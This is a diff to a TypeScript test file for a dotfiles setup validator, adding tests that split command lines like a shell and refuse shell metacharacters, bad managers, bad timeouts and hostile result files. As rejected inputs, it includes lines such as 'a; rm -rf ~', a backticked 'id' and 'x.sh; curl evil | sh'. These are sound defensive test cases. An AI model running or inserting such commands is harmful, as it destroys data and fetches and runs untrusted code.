@@ -7,7 +7,8 @@ import { agentenvDir } from "../../core/paths.ts";
 import { hasOverlay, overlayFile } from "../../plugins/dotfiles/index.ts";
 import { secretsFile } from "../../plugins/secrets/index.ts";
 import { checkOverlayPath, overlayHash, readOverlay, writeOverlay, writeOverlayFiles, type Overlay } from "../../plugins/dotfiles/overlay.ts";
-import { checkRef, checkSetup, confPath, confScript, describeDotfiles, localRepoTarget, resolveDotfilesUrl } from "../../plugins/dotfiles/repo.ts";
+import { checkDotfiles, checkManager, checkRef, checkSetup, checkTimeout, confPath, confScript, describeDotfiles, localRepoTarget, resolveDotfilesUrl, splitCommandLine } from "../../plugins/dotfiles/repo.ts";
+import { describeResult, parseResult } from "../../plugins/dotfiles/result.ts";
 import { checkSecretName, readSecrets, secretsFor, writeSecrets, type SecretStore } from "../../plugins/secrets/store.ts";
 import { agentenv, tempTree } from "../helpers/cli.ts";
 
@@ -241,14 +242,84 @@ describe("dotfiles ref and setup", () => {
     }
   });
 
-  test("a setup script is a path inside the repo", () => {
+  test("a setup command is a program inside the repo (or a bare name on PATH) and its arguments, recorded as shell-quoted words", () => {
     expect(checkSetup(undefined)).toBeUndefined();
     expect(checkSetup("")).toBeUndefined();
+    expect(checkSetup("  ")).toBeUndefined();
     expect(checkSetup("./script/setup")).toBe("script/setup");
     expect(checkSetup("install.sh")).toBe("install.sh");
-    for (const bad of ["/abs", "../x", "a/../../x", "a//b", "dir/", "a\nb"]) {
+    expect(checkSetup("bootstrap.sh --force")).toBe("bootstrap.sh --force");
+    expect(checkSetup(`install.sh "two words" 'it''s' a\\ b`)).toBe("install.sh 'two words' its 'a b'");
+    expect(checkSetup("make install")).toBe("make install");
+    expect(checkSetup("none")).toBe("none");
+    // a script that is called none
+    expect(checkSetup("./none")).toBe("./none");
+    for (const bad of ["/abs", "../x", "a/../../x", "a//b", "dir/", "'' --force"]) {
       expect(userError(() => checkSetup(bad)).message).toContain("must be a path inside the repo");
     }
+    expect(userError(() => checkSetup("a\nb")).message).toContain("one line");
+  });
+
+  test("a command line splits as a shell splits it, and what a shell would expand or run is refused", () => {
+    expect(splitCommandLine(`a  b\t"c d" 'e "f"' g\\ h "i\\"j" k=#`)).toEqual(["a", "b", "c d", 'e "f"', "g h", 'i"j', "k=#"]);
+    expect(splitCommandLine("'$HOME' \"a'b\"")).toEqual(["$HOME", "a'b"]);
+    const refused: Array<[string, string]> = [
+      ["x $HOME", "$ is not allowed unquoted"],
+      ["x `id`", "` is not allowed unquoted"],
+      ['x "$HOME"', "$ inside double quotes would be expanded"],
+      ["a; rm -rf ~", "; is not allowed unquoted"],
+      ["a | b", "| is not allowed unquoted"],
+      ["a > f", "> is not allowed unquoted"],
+      ["a *.sh", "* is not allowed unquoted"],
+      ["a ~/x", "a word starting with ~"],
+      ["a #comment", "a word starting with #"],
+      ["'open", "a ' is not closed"],
+      ['"open', 'a " is not closed'],
+      ["a\\", "it ends with a backslash"],
+    ];
+    for (const [line, why] of refused) {
+      const error = userError(() => splitCommandLine(line));
+      expect(error.message).toContain(why);
+      expect(error.hint).toContain("--setup 'bootstrap.sh --force'");
+    }
+  });
+
+  test("managers and time limits", () => {
+    for (const manager of ["plain", "rcm", "stow", "chezmoi"]) expect(checkManager(manager)).toBe(manager as "plain");
+    expect(checkManager(undefined)).toBeUndefined();
+    expect(checkManager("")).toBeUndefined();
+    expect(userError(() => checkManager("yadm")).message).toBe('dotfiles manager "yadm": use one of plain, rcm, stow, chezmoi');
+    expect([checkTimeout("600"), checkTimeout("90s"), checkTimeout("10m"), checkTimeout("10min"), checkTimeout("1h"), checkTimeout(45)]).toEqual([600, 90, 600, 600, 3600, 45]);
+    expect(checkTimeout(undefined)).toBeUndefined();
+    for (const bad of ["0", "-5", "25h", "1.5m", "soon", "10 minutes"]) expect(userError(() => checkTimeout(bad)).message).toContain("give seconds, or 90s, 10m, 1h");
+  });
+
+  test("a record's dotfiles (from an archive, or a home) are checked field by field", () => {
+    const url = "https://github.com/o/r.git";
+    expect(checkDotfiles({ url, setup: "bootstrap.sh --force", manager: "stow", timeout: 120 })).toEqual({ url, setup: "bootstrap.sh --force", manager: "stow", timeout: 120 });
+    expect(userError(() => checkDotfiles({ url, manager: "evil" })).message).toContain('dotfiles manager "evil"');
+    expect(userError(() => checkDotfiles({ url, timeout: "600" })).message).toContain("not a number");
+    expect(userError(() => checkDotfiles({ url, setup: "x.sh; curl evil | sh" })).message).toContain("; is not allowed unquoted");
+  });
+});
+
+describe("the last setup's result (read from a home: hostile)", () => {
+  const text = (lines: string[]) => `${lines.join("\n")}\n`;
+
+  test("parsed field by field", () => {
+    const result = parseResult(text(["status=applied", "time=1700000000", `commit=${"a".repeat(40)}`, "ran=rcm, then hooks/post-up", "added=5", "changed=1", "removed=0", "links=4", "message=rcm: 5 added"]));
+    expect(result).toEqual({ status: "applied", time: "2023-11-14T22:13:20.000Z", commit: "a".repeat(40), ran: "rcm, then hooks/post-up", added: 5, changed: 1, removed: 0, links: 4, message: "rcm: 5 added" });
+    expect(describeResult(result!, () => "1 min ago")).toBe("applied 1 min ago — rcm, then hooks/post-up: 5 added (4 links), 1 changed");
+    const failed = parseResult(text(["status=needs-terminal", "message=bootstrap.sh needs a terminal"]))!;
+    expect(describeResult(failed, () => "")).toBe("needs-terminal: bootstrap.sh needs a terminal (log: ~/.local/state/agentenv/dotfiles.log)");
+  });
+
+  test("an unknown status is no result; bad numbers are 0; control characters go; the first of a repeated key counts", () => {
+    expect(parseResult(undefined)).toBeUndefined();
+    expect(parseResult(text(["status=pwned"]))).toBeUndefined();
+    const odd = parseResult(text(["status=failed", "status=applied", "added=-3", "changed=1e9x", "time=yesterday", "commit=../../etc", "message=\u001b[31mred\u0007"]))!;
+    expect(odd).toMatchObject({ status: "failed", added: 0, changed: 0, time: undefined, commit: undefined, message: "[31mred" });
+    expect(parseResult(text(["status=failed", `message=${"x".repeat(5000)}`]))!.message).toHaveLength(500);
   });
 });
 
@@ -290,14 +361,18 @@ describe("dotfiles.conf", () => {
     const lines = confScript(dir, { url: "/abs/repo", ref: "main" });
     expect(lines).toHaveLength(2); // written beside it, then renamed over it
     expect(lines[0]).toContain(`local=${localRepoTarget}`);
-    expect(runConf(lines, dir)).toEqual(["url=/abs/repo", "ref=main", "setup=", "local=/run/agentenv/dotfiles-repo", ""]);
+    expect(runConf(lines, dir)).toEqual(["url=/abs/repo", "ref=main", "setup=", "local=/run/agentenv/dotfiles-repo", "manager=", "timeout=", ""]);
   });
 
   test("a remote repo has no local=; values with shell characters are quoted", () => {
     const dir = home();
     const url = "https://host/it's a $(dots) `repo`.git";
-    const lines = confScript(dir, { url, setup: "script/set up" });
-    expect(runConf(lines, dir)).toEqual([`url=${url}`, "ref=", "setup=script/set up", "local=", ""]);
+    const setup = checkSetup("script/setup 'it''s' --force")!;
+    const lines = confScript(dir, { url, setup, manager: "rcm", timeout: 90 });
+    expect(runConf(lines, dir)).toEqual([`url=${url}`, "ref=", "setup=script/setup its --force", "local=", "manager=rcm", "timeout=90", ""]);
+    // what the container reads back with eval "set -- …": the same words
+    const words = Bun.spawnSync(["sh", "-c", `eval "set -- $1"; printf '[%s]' "$@"`, "sh", checkSetup(`x.sh 'a b' "c'd" '$HOME'`)!]).stdout.toString();
+    expect(words).toBe("[x.sh][a b][c'd][$HOME]");
   });
 
   test("no dotfiles removes the conf", () => {
